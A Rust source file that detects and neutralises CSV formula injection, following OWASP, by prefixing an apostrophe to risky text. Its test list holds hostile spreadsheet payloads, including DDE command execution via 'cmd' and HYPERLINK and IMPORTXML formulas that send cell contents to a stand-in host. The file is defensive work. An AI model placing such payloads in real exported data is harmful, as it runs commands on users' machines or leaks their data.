//! Texts that a spreadsheet would run, after OWASP, "CSV Injection" (<https://owasp.org/www-community/attacks/CSV_Injection>).

use std::borrow::Cow;

/// Whether a spreadsheet that opens a CSV file may take this text for a formula: it begins with `=`, `+`, `-` or `@`, with one of their
/// full-width forms, or with a tab or an end of line. Spaces and marks in front that are not seen do not count, as some programs
/// take them away.
#[must_use]
pub fn is_formula(text: &str) -> bool {
    let is_passed_over = |char: char| {
        matches!(char, '\u{FEFF}' | '\u{200B}'..='\u{200F}' | '\u{2060}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
            || (char.is_whitespace() && !matches!(char, '\t' | '\r' | '\n'))
    };
    let first = text.chars().find(|char| !is_passed_over(*char));
    matches!(
        first,
        Some(
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}' | '\u{2212}'
        )
    )
}

/// The text, with an apostrophe in front if a spreadsheet would run it otherwise.
#[must_use]
pub fn neutralised(text: Cow<'_, str>) -> Cow<'_, str> {
    if is_formula(&text) { Cow::Owned(format!("'{text}")) } else { text }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_run_gets_an_apostrophe_and_nothing_else_does() {
        let hostile = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example?\", A1), \"//a\")",
            "+1+1",
            "-1+1",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "−1",
            " =1+1",
            "\u{a0}=1+1",
            "\u{3000}@x",
            "\u{FEFF}=1+1",
            "\u{200B}=1+1",
            "=",
            "-",
        ];
        for text in hostile {
            assert_eq!(neutralised(Cow::Borrowed(text)), format!("'{text}"), "{text:?}");
        }
        for text in ["", " ", "a=1", "'=1", "1-1", "(=1)", "\"=1\"", "#N/A", "ä", "https://x.example/=1", "a\n=1"] {
            assert!(matches!(neutralised(Cow::Borrowed(text)), Cow::Borrowed(same) if same == text), "{text:?}");
        }
    }
}
